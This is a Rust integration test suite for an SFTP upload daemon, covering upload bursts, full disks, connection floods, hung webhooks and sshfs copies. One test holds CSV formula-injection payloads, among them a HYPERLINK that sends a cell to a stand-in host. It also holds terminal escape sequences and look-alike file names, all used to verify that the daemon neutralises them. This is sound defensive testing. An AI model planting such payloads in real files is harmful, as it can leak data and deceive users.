//! Nothing acknowledged is ever lost and nothing one party does stalls the
//! others: bursts of uploads of one name, full disks, floods, hung
//! receivers, through the real daemon.

use crate::support::{describe, eventually, openssh_sftp, TestAccount, TestDaemon, TestDb};
use std::time::Duration;

const REPORT: Duration = Duration::from_secs(120);

/// Runs a store call from a polling closure.
fn block<T>(f: impl std::future::Future<Output = Result<T, intake::store::StoreError>>) -> T {
    tokio::task::block_in_place(|| tokio::runtime::Handle::current().block_on(f)).unwrap()
}

/// 50 uploads of one name within a fraction of a second from 8 sessions
/// (half `put` it, half `put` a temp name and `rename` it onto the name):
/// every OK answered is one job, and every job gets its report in turn.
async fn a_burst_of_uploads_of_one_name_gives_every_upload_its_job(db: TestDb) {
    let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
    const UPLOADS: usize = 50;
    const SESSIONS: usize = 8;
    let mut batches = vec![String::new(); SESSIONS];
    for i in 0..UPLOADS {
        let local = d.dir.join(format!("burst{i}.csv"));
        std::fs::write(&local, format!("ref,email\nburst-{i},b{i}@example.com\n")).unwrap();
        let session = i % SESSIONS;
        batches[session] += &if session.is_multiple_of(2) {
            format!("put {} /customers/same.csv\n", local.display())
        } else {
            format!(
                "put {} /customers/same.csv.part{i}\nrename /customers/same.csv.part{i} /customers/same.csv\n",
                local.display()
            )
        };
    }
    let started = std::time::Instant::now();
    let runs = batches.into_iter().map(|batch| {
        let (dir, key, port) = (d.dir.clone(), d.key.clone(), d.port());
        tokio::spawn(async move { openssh_sftp(&dir, &key, &port, "acme", &batch).await })
    });
    for run in runs.collect::<Vec<_>>() {
        let out = run.await.unwrap();
        assert!(out.status.success(), "every upload is acknowledged: {}\n{}", describe(&out), d.log());
    }
    let store = db.store().await;
    let jobs = eventually(REPORT, "a finished job for every upload", || {
        let jobs = block(store.find_jobs(Some("acme"), None, 1000));
        (jobs.len() >= UPLOADS && jobs.iter().all(|j| j.status.is_final())).then_some(jobs)
    })
    .await;
    assert_eq!(jobs.len(), UPLOADS, "one job per acknowledged upload");
    assert!(jobs.iter().all(|j| j.file_name == "same.csv"));
    assert_eq!(block(store.count_customers("acme")), UPLOADS as u64, "every upload's row is in");
    let summary = d.summary("acme", "same", REPORT).await;
    assert_eq!(summary["created"], 1, "{summary}");
    eprintln!(
        "measured: burst of {UPLOADS} uploads, {:.1} s, peak RSS {} MiB",
        started.elapsed().as_secs_f64(),
        d.peak_rss_mib()
    );
}

crate::on_both_backends!(a_burst_of_uploads_of_one_name_gives_every_upload_its_job);

/// A small tmpfs mounted for one test (the test runs as root in CI), removed
/// when dropped; [`SmallDisk::fill`] takes every free byte, `free` gives them back.
struct SmallDisk {
    mount: tempfile::TempDir,
}

impl SmallDisk {
    fn mount(mib: u64) -> SmallDisk {
        let mount = tempfile::tempdir().unwrap();
        let out = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={mib}m"), "tmpfs"])
            .arg(mount.path())
            .output()
            .expect("mount runs");
        assert!(out.status.success(), "mounting a tmpfs needs root: {}", String::from_utf8_lossy(&out.stderr));
        SmallDisk { mount }
    }

    fn path(&self) -> &std::path::Path {
        self.mount.path()
    }

    fn filler(&self) -> std::path::PathBuf {
        self.path().join("filler")
    }

    /// Writes until the file system is full.
    fn fill(&self) {
        use std::io::Write;
        let mut file = std::fs::File::create(self.filler()).unwrap();
        let chunk = vec![0u8; 64 * 1024];
        while file.write_all(&chunk).is_ok() {}
        let mut byte = [0u8; 1];
        while file.write_all(&byte[..]).is_ok() {
            byte[0] = 1;
        }
    }

    fn free(&self) {
        std::fs::remove_file(self.filler()).unwrap();
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg("-l").arg(self.mount.path()).status();
    }
}

/// The summary of `stem`, or a panic that shows the daemon's log.
async fn report(d: &TestDaemon, stem: &str) -> serde_json::Value {
    let path = d.outbox("acme").join(format!("{stem}.summary.json"));
    let deadline = std::time::Instant::now() + REPORT;
    loop {
        if let Ok(text) = std::fs::read_to_string(&path) {
            return serde_json::from_str(&text).unwrap();
        }
        assert!(std::time::Instant::now() < deadline, "no report for {stem}\n{}", d.log());
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Whether `/readyz` answers 503 naming `check`, within `limit`.
async fn not_ready_with(d: &TestDaemon, check: &str, limit: Duration) -> String {
    let deadline = std::time::Instant::now() + limit;
    loop {
        let (status, body) = d.http_get("/readyz").await;
        if status == 503 && body.contains(check) {
            return body;
        }
        assert!(std::time::Instant::now() < deadline, "/readyz never reported {check}: {status} {body}\n{}", d.log());
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// The data directory (and SQLite's database) fills up while a job runs
/// and again while idle, then space returns: every upload acknowledged gets
/// its report, with no restart, and `/readyz` said the store could not
/// write meanwhile.
async fn a_full_disk_that_frees_again_loses_nothing_and_needs_no_restart(mut db: TestDb) {
    let disk = SmallDisk::mount(48);
    let data_dir = disk.path().join("data");
    if db.url.starts_with("sqlite") {
        db.url = format!("sqlite://{}", disk.path().join("intake.db").display());
    }
    let home = tempfile::tempdir().unwrap();
    let mut d = TestDaemon::prepare(home.path(), &db, &[TestAccount::new("acme")], &[]);
    for (name, value) in &mut d.env {
        if name == "INTAKE_DATA_DIR" {
            *value = data_dir.display().to_string();
        }
    }
    d.data_dir = data_dir;
    d.start().await;
    let pid = d.pid();
    let started = std::time::Instant::now();
    let big = d.dir.join("big.csv");
    crate::support::write_customers(&big, "big-", 60_000);
    d.upload("acme", &big, "big.csv").await;
    let store = db.store().await;
    eventually(REPORT, "the job to run", || {
        let jobs = block(store.find_jobs(Some("acme"), None, 10));
        jobs.iter().any(|j| j.file_name == "big.csv" && j.status == intake::store::JobStatus::Running).then_some(())
    })
    .await;
    // Full while the job runs.
    disk.fill();
    not_ready_with(&d, "not ready", Duration::from_secs(30)).await;
    let during = d.dir.join("during.csv");
    crate::support::write_customers(&during, "during-", 10);
    let acknowledged =
        d.sftp("acme", &format!("put {} /customers/during.csv\n", during.display())).await.status.success();
    tokio::time::sleep(Duration::from_secs(3)).await;
    disk.free();
    let summary = report(&d, "big").await;
    assert_eq!(summary["status"], "completed", "{summary}");
    assert_eq!(summary["created"], 60_000, "{summary}");
    if acknowledged {
        assert_eq!(report(&d, "during").await["created"], 10);
    }
    // Full while idle, then freed.
    disk.fill();
    not_ready_with(&d, "not ready", Duration::from_secs(30)).await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    disk.free();
    eventually(Duration::from_secs(30), "/readyz 200 again", || {
        let (status, _) =
            tokio::task::block_in_place(|| tokio::runtime::Handle::current().block_on(d.http_get("/readyz")));
        (status == 200).then_some(())
    })
    .await;
    let after = d.dir.join("after.csv");
    crate::support::write_customers(&after, "after-", 10);
    d.upload("acme", &after, "after.csv").await;
    assert_eq!(report(&d, "after").await["created"], 10, "{}", d.log());
    assert_eq!(d.pid(), pid, "no restart");
    eprintln!("measured: full disk twice, {:.1} s, peak RSS {} MiB", started.elapsed().as_secs_f64(), d.peak_rss_mib());
}

crate::on_both_backends!(a_full_disk_that_frees_again_loses_nothing_and_needs_no_restart);

/// Refs a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+cmd`) are
/// written into the report as text (a leading `'`); plain numbers and E.164
/// phones stay as they are; `failed.csv` keeps the upload's own bytes; a
/// ref with control characters fails its row (`invalid_ref`), and `intake
/// check` prints the file's escape sequences escaped, never raw.
async fn reports_open_safely_in_a_spreadsheet_and_terminals_see_no_escapes(db: TestDb) {
    let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
    let started = std::time::Instant::now();
    let file = d.dir.join("formulas.csv");
    let csv = "ref,email\n\
               \"=HYPERLINK(\"\"http://x/?\"\"&B3,\"\"Click\"\")\",a@example.com\n\
               @SUM(A1),b@example.com\n\
               +cmd,c@example.com\n\
               -12,d@example.com\n\
               +15555001234,e@example.com\n\
               \"esc\x1b]0;ALL ROWS VALID\x07\x1b[2J\",f@example.com\n\
               =bad,not-an-email\n";
    std::fs::write(&file, csv).unwrap();
    d.upload("acme", &file, "formulas.csv").await;
    let summary = report_of(&d, "formulas").await;
    assert_eq!((summary["created"].as_u64(), summary["failed"].as_u64()), (Some(5), Some(2)), "{summary}");
    let results = crate::support::read_results(&d.outbox("acme").join("formulas.results.csv"));
    let refs: Vec<&str> = results[1..].iter().map(|r| r[1].as_str()).collect();
    assert_eq!(
        refs,
        [
            "'=HYPERLINK(\"http://x/?\"&B3,\"Click\")",
            "'@SUM(A1)",
            "'+cmd",
            "-12",
            "+15555001234",
            "esc\\u{1b}]0;ALL ROWS VALID\\u{7}\\u{1b}[2J",
            "'=bad"
        ]
    );
    assert_eq!(results[6][4], "invalid_ref", "{:?}", results[6]);
    assert!(!results[6].iter().any(|cell| cell.contains('\x1b')), "{:?}", results[6]);
    let failed = std::fs::read_to_string(d.outbox("acme").join("formulas.failed.csv")).unwrap();
    assert!(
        failed.contains("\"esc\x1b]0;ALL ROWS VALID\x07\x1b[2J\"") && failed.contains("=bad,not-an-email"),
        "{failed:?}"
    );
    let out = crate::support::intake(&["check", file.to_str().unwrap()], &[], &d.dir).await;
    let printed = String::from_utf8_lossy(&out.stdout);
    assert!(printed.contains("invalid_ref"), "{}", describe(&out));
    assert!(!printed.contains('\x1b') && !printed.contains('\x07'), "raw escapes printed: {printed:?}");
    measured(&d, "formula and escape refs: upload, report, intake check", started);
}

/// Prints a figure for BENCHMARKS.md: seconds since `started`, the daemon's peak RSS.
fn measured(d: &TestDaemon, what: &str, started: std::time::Instant) {
    eprintln!("measured: {what}: {:.1} s, peak RSS {} MiB", started.elapsed().as_secs_f64(), d.peak_rss_mib());
}

/// The summary of `stem` in acme's outbox.
async fn report_of(d: &TestDaemon, stem: &str) -> serde_json::Value {
    d.summary("acme", stem, REPORT).await
}

crate::on_both_backends!(reports_open_safely_in_a_spreadsheet_and_terminals_see_no_escapes);

/// Names that read as `.csv` but are not (a trailing space or dot, an
/// invisible character, a Cyrillic `с`) are refused at upload, by `put` and
/// by `rename`, with a status that says why: never acknowledged and then
/// left unprocessed. Client temp names upload as ever.
async fn names_that_only_look_like_csv_are_refused_at_upload(db: TestDb) {
    let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
    let started = std::time::Instant::now();
    let file = d.dir.join("n.csv");
    crate::support::write_customers(&file, "n-", 2);
    for name in ["x.csv ", "y.csv.", "z.csv\u{200B}", "w.\u{0441}sv"] {
        let out = d.sftp("acme", &format!("put {} \"/customers/{name}\"\n", file.display())).await;
        assert!(!out.status.success(), "{name:?} must be refused: {}", describe(&out));
        let batch = format!(
            "put {} /customers/n.csv.part\nrename /customers/n.csv.part \"/customers/{name}\"\n",
            file.display()
        );
        let out = d.sftp("acme", &batch).await;
        assert!(!out.status.success(), "rename onto {name:?} must be refused: {}", describe(&out));
    }
    // OpenSSH prints the status code only; the message says why (as WinSCP
    // and FileZilla show it), and the log has it.
    let log = d.log();
    assert_eq!(log.matches("after .csv").count(), 6, "{log}");
    assert_eq!(log.matches("only looks like .csv").count(), 2, "{log}");
    let names: Vec<String> = std::fs::read_dir(d.customers("acme"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names, ["n.csv.part"], "nothing with those names was stored");
    let out = d.sftp("acme", "rename /customers/n.csv.part /customers/n.csv\n").await;
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(d.summary("acme", "n", REPORT).await["created"], 2);
    measured(&d, "4 look-alike names refused by put and by rename (8 sessions)", started);
}

crate::on_both_backends!(names_that_only_look_like_csv_are_refused_at_upload);

/// `sftp -b` of `batch` as `user`, its connection made from `source` (a
/// loopback address of its own).
async fn sftp_from(d: &TestDaemon, source: &str, user: &str, batch: &str) -> std::process::Output {
    let batch_file = d.dir.join(format!("batch-{}", uuid::Uuid::new_v4().simple()));
    std::fs::write(&batch_file, batch).unwrap();
    let mut cmd = tokio::process::Command::new("sftp");
    cmd.args(["-q", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes"])
        .args(["-o", "IdentitiesOnly=yes", "-o", "LogLevel=ERROR", "-o", &format!("BindAddress={source}")])
        .args(["-F", "/dev/null", "-i"])
        .arg(&d.key)
        .args(["-P", &d.port(), "-b"])
        .arg(&batch_file)
        .arg(format!("{user}@127.0.0.1"))
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true);
    tokio::time::timeout(Duration::from_secs(120), cmd.output()).await.expect("sftp finished in time").unwrap()
}

/// 200 connections from 40 addresses that never send a byte, then 50
/// merchants (each from an address of its own, as cron jobs of 50 servers)
/// logging in at the same moment: every merchant's upload succeeds, at the
/// defaults and with a pre-auth table (`max_startups`) of 100, which the
/// silent connections alone would fill: they are evicted first. A silent
/// connection is dropped after `ident_timeout_secs`.
async fn silent_floods_never_lock_merchants_out(db: TestDb) {
    const MERCHANTS: usize = 50;
    let accounts: Vec<TestAccount> = (0..MERCHANTS).map(|i| TestAccount::new(&format!("m{i:02}"))).collect();
    for max_startups in [None, Some("100:30:100")] {
        let settings: Vec<(&str, &str)> = max_startups.map(|m| ("INTAKE_SFTP__MAX_STARTUPS", m)).into_iter().collect();
        let fresh = db.another().await;
        let d = TestDaemon::spawn(&fresh, &accounts, &settings).await;
        let target: std::net::SocketAddr = d.addr.as_ref().unwrap().parse().unwrap();
        let mut silent = Vec::new();
        for i in 0..200 {
            let socket = tokio::net::TcpSocket::new_v4().unwrap();
            socket.bind(format!("127.0.0.{}:0", 10 + i % 40).parse().unwrap()).unwrap();
            silent.push(socket.connect(target).await.unwrap());
        }
        // Older than a round trip: what a flood holds.
        tokio::time::sleep(Duration::from_millis(1500)).await;
        let flooded = std::time::Instant::now();
        let file = d.dir.join("cron.csv");
        crate::support::write_customers(&file, "cron-", 3);
        let runs: Vec<_> = accounts
            .iter()
            .enumerate()
            .map(|(i, account)| {
                let batch = format!("put {} /customers/cron.csv\n", file.display());
                let (d, user) = (&d, account.avid.clone());
                async move { (user.clone(), sftp_from(d, &format!("127.0.1.{}", i + 1), &user, &batch).await) }
            })
            .collect();
        for (user, out) in futures_join(runs).await {
            assert!(out.status.success(), "{user} ({max_startups:?}): {}\n{}", describe(&out), d.log());
        }
        for account in &accounts {
            assert_eq!(d.summary(&account.avid, "cron", REPORT).await["created"], 3);
        }
        eprintln!(
            "measured: flood {max_startups:?}, 50 merchants in {:.1} s, peak RSS {} MiB",
            flooded.elapsed().as_secs_f64(),
            d.peak_rss_mib()
        );
        // A silent connection is dropped once its identification is overdue.
        use tokio::io::AsyncReadExt;
        let mut rest = Vec::new();
        let read = tokio::time::timeout(Duration::from_secs(15), silent[199].read_to_end(&mut rest)).await;
        assert!(read.is_ok(), "a silent connection was still open after 15 s");
    }
}

/// Runs the futures at once, results in order.
async fn futures_join<F: std::future::Future>(futures: Vec<F>) -> Vec<F::Output> {
    let mut pinned: Vec<_> = futures.into_iter().map(Box::pin).collect();
    let mut outputs: Vec<Option<F::Output>> = (0..pinned.len()).map(|_| None).collect();
    std::future::poll_fn(|cx| {
        let mut pending = false;
        for (i, f) in pinned.iter_mut().enumerate() {
            if outputs[i].is_none() {
                match f.as_mut().poll(cx) {
                    std::task::Poll::Ready(out) => outputs[i] = Some(out),
                    std::task::Poll::Pending => pending = true,
                }
            }
        }
        if pending {
            std::task::Poll::Pending
        } else {
            std::task::Poll::Ready(())
        }
    })
    .await;
    outputs.into_iter().map(|o| o.expect("every future finished")).collect()
}

crate::on_both_backends!(silent_floods_never_lock_merchants_out);

/// A webhook receiver that accepts connections and never answers.
async fn hung_receiver() -> (String, tokio::task::JoinHandle<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let task = tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((socket, _)) = listener.accept().await {
            held.push(socket);
        }
    });
    (url, task)
}

/// A receiver that answers 204 at once; counts the requests it got.
async fn quick_receiver() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>, tokio::task::JoinHandle<()>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let got = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = got.clone();
    let task = tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let counted = counted.clone();
            tokio::spawn(async move {
                let mut request = Vec::new();
                let mut buf = [0u8; 4096];
                // Headers, then the body by its length.
                loop {
                    let Ok(n) = socket.read(&mut buf).await else { return };
                    if n == 0 {
                        return;
                    }
                    request.extend_from_slice(&buf[..n]);
                    let text = String::from_utf8_lossy(&request).to_ascii_lowercase();
                    if let Some(end) = text.find("\r\n\r\n") {
                        let length = text
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .and_then(|v| v.trim().parse::<usize>().ok())
                            .unwrap_or(0);
                        if request.len() >= end + 4 + length {
                            break;
                        }
                    }
                }
                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let _ = socket.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n").await;
            });
        }
    });
    (url, got, task)
}

/// One account's receiver accepts and never answers, with 64 events due;
/// another account's job ends meanwhile: its webhook arrives within
/// seconds (a per-account cap on attempts in flight, round-robin).
async fn a_hung_webhook_receiver_slows_only_its_own_account(db: TestDb) {
    let d = TestDaemon::spawn(&db, &[TestAccount::new("hung"), TestAccount::new("fine")], &[]).await;
    let (hung_url, _hung) = hung_receiver().await;
    let (fine_url, fine_got, _fine) = quick_receiver().await;
    let store = db.store().await;
    store.set_webhook("hung", &hung_url, &intake::store::WebhookSecret::new("s3cret-hung".into())).await.unwrap();
    store.set_webhook("fine", &fine_url, &intake::store::WebhookSecret::new("s3cret-fine".into())).await.unwrap();
    for i in 0..64 {
        let event = intake::store::Delivery::pending(
            format!("evt_hung_{i}"),
            "hung".to_owned(),
            None,
            "job.completed".to_owned(),
            hung_url.clone(),
            format!("{{\"n\":{i}}}"),
        );
        store.enqueue_delivery(&event).await.unwrap();
    }
    // Let the hung receiver take every slot it can.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let file = d.dir.join("f.csv");
    crate::support::write_customers(&file, "f-", 2);
    d.upload("fine", &file, "f.csv").await;
    d.summary("fine", "f", REPORT).await;
    let reported = std::time::Instant::now();
    eventually(Duration::from_secs(60), "the healthy account's webhook", || {
        (fine_got.load(std::sync::atomic::Ordering::SeqCst) >= 1).then_some(())
    })
    .await;
    let waited = reported.elapsed();
    assert!(waited < Duration::from_secs(5), "the healthy account's webhook came {waited:?} after its report");
    eprintln!(
        "measured: webhook beside a hung receiver after {:.2} s, peak RSS {} MiB",
        waited.as_secs_f64(),
        d.peak_rss_mib()
    );
}

crate::on_both_backends!(a_hung_webhook_receiver_slows_only_its_own_account);

/// sshfs (a FUSE client) through the 20 ms round-trip delay proxy: `cp`,
/// `mv`, `rsync` and `rsync --inplace` into the mounted /customers. sshfs
/// stats a file right after creating it: the session's upload in progress
/// answers (it is published on close). Every copy gets its report.
async fn sshfs_copies_into_customers_are_uploads(db: TestDb) {
    let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
    let started = std::time::Instant::now();
    let proxy =
        crate::support::DelayProxy::start(d.addr.as_ref().unwrap().parse().unwrap(), Duration::from_millis(10)).await;
    let mount = tempfile::tempdir().unwrap();
    let options = format!(
        "IdentityFile={},StrictHostKeyChecking=no,UserKnownHostsFile=/dev/null,IdentitiesOnly=yes,BatchMode=yes",
        d.key.display()
    );
    let out = tokio::process::Command::new("sshfs")
        .args(["-p", &proxy.port.to_string(), "acme@127.0.0.1:/customers"])
        .arg(mount.path())
        .args(["-o", &options])
        .output()
        .await
        .expect("sshfs runs (apt-get install sshfs)");
    assert!(out.status.success(), "sshfs mount: {}", describe(&out));
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("fusermount").arg("-uz").arg(&self.0).status();
        }
    }
    let _unmount = Unmount(mount.path().to_path_buf());
    let copies: [(&str, Vec<String>); 4] = [
        ("cp", vec!["cp".into()]),
        ("mv", vec!["mv".into()]),
        ("rsync", vec!["rsync".into()]),
        ("inplace", vec!["rsync".into(), "--inplace".into()]),
    ];
    for (stem, command) in copies {
        let local = d.dir.join(format!("{stem}.csv"));
        crate::support::write_customers(&local, &format!("{stem}-"), 5);
        let out = tokio::process::Command::new(&command[0])
            .args(&command[1..])
            .arg(&local)
            .arg(mount.path().join(format!("{stem}.csv")))
            .output()
            .await
            .unwrap();
        assert!(out.status.success(), "{command:?}: {}", describe(&out));
        let summary = d.summary("acme", stem, REPORT).await;
        assert_eq!(summary["created"], 5, "{command:?}: {summary}");
    }
    let store = db.store().await;
    let jobs = store.find_jobs(Some("acme"), None, 100).await.unwrap();
    assert_eq!(
        jobs.len(),
        4,
        "one job per copy, no empty extra: {:?}",
        jobs.iter().map(|j| &j.file_name).collect::<Vec<_>>()
    );
    measured(&d, "sshfs cp, mv, rsync, rsync --inplace through 20 ms, 4 reports", started);
}

crate::on_both_backends!(sshfs_copies_into_customers_are_uploads);

/// A PostgreSQL restart ends every node's session, and so every node's
/// lock, at once: two live nodes that lost their locks (their lock
/// connections closed, as a restart closes them) and still heartbeat are
/// never taken for dead, by each other; one that stops beating is, once
/// its heartbeat has been quiet (two beats).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_lost_node_lock_with_a_live_heartbeat_is_no_dead_node() {
    let Some(db) = TestDb::postgres().await else { return };
    let store = db.store().await;
    let mut locks = Vec::new();
    for node in ["node-a", "node-b"] {
        let start = intake::store::NodeStart {
            node_id: node.to_owned(),
            owner: format!("{node}#1"),
            host: "test".to_owned(),
            pid: 1,
            version: "test".to_owned(),
            sftp_addr: None,
        };
        store.register_node(&start).await.unwrap();
        locks.push(store.lock_node(node, std::path::Path::new("")).await.unwrap().expect("the lock is free"));
    }
    // What a restart does to every session: the locks are gone.
    drop(locks);
    let quiet = Duration::from_secs(2);
    for _ in 0..4 {
        for node in ["node-a", "node-b"] {
            assert!(store.node_heartbeat(node, &format!("{node}#1")).await.unwrap());
        }
        assert_eq!(store.dead_node_owners_after(quiet).await.unwrap(), Vec::<String>::new(), "live nodes are not dead");
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    // The lock alone said otherwise: what took live nodes' jobs before.
    assert_eq!(store.dead_node_owners_after(Duration::ZERO).await.unwrap().len(), 2, "by their locks alone");
    // node-b stops beating; node-a goes on.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        assert!(store.node_heartbeat("node-a", "node-a#1").await.unwrap());
        let dead = store.dead_node_owners_after(quiet).await.unwrap();
        if !dead.is_empty() {
            assert_eq!(dead, ["node-b#1"]);
            break;
        }
        assert!(std::time::Instant::now() < deadline, "a node that stopped beating is seen dead");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// A job that cannot publish its report while the disk is full (no
/// retries left) still gets it once space returns: the report is owed, so
/// its publishing waits rather than closing the job without one.
async fn a_job_given_up_on_a_full_disk_is_reported_when_space_returns(mut db: TestDb) {
    let disk = SmallDisk::mount(48);
    let data_dir = disk.path().join("data");
    if db.url.starts_with("sqlite") {
        db.url = format!("sqlite://{}", disk.path().join("intake.db").display());
    }
    let home = tempfile::tempdir().unwrap();
    let mut d = TestDaemon::prepare(home.path(), &db, &[TestAccount::new("acme")], &[("INTAKE_MAX_JOB_RETRIES", "0")]);
    for (name, value) in &mut d.env {
        if name == "INTAKE_DATA_DIR" {
            *value = data_dir.display().to_string();
        }
    }
    d.data_dir = data_dir;
    d.start().await;
    let big = d.dir.join("big.csv");
    crate::support::write_customers(&big, "big-", 60_000);
    d.upload("acme", &big, "big.csv").await;
    let store = db.store().await;
    eventually(REPORT, "the job to run", || {
        let jobs = block(store.find_jobs(Some("acme"), None, 10));
        jobs.iter().any(|j| j.file_name == "big.csv" && j.status == intake::store::JobStatus::Running).then_some(())
    })
    .await;
    disk.fill();
    // It gives up (no retries) and cannot publish its report yet.
    eventually(Duration::from_secs(60), "the report to fail to publish", || {
        d.log().contains("cannot publish the").then_some(())
    })
    .await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    disk.free();
    // Decided before the disk filled (`completed`) or given up (`aborted`):
    // either way reported, with the rows committed.
    let summary = report(&d, "big").await;
    match summary["status"].as_str() {
        Some("completed") => assert_eq!(summary["created"], 60_000, "{summary}"),
        Some("aborted") => {}
        _ => panic!("{summary}"),
    }
    let counted = ["created", "failed"].iter().map(|k| summary[k].as_u64().unwrap()).sum::<u64>();
    let results = std::fs::read_to_string(d.outbox("acme").join("big.results.csv")).unwrap();
    assert_eq!(results.lines().count() as u64, counted + 1, "the report holds the committed rows");
}

crate::on_both_backends!(a_job_given_up_on_a_full_disk_is_reported_when_space_returns);
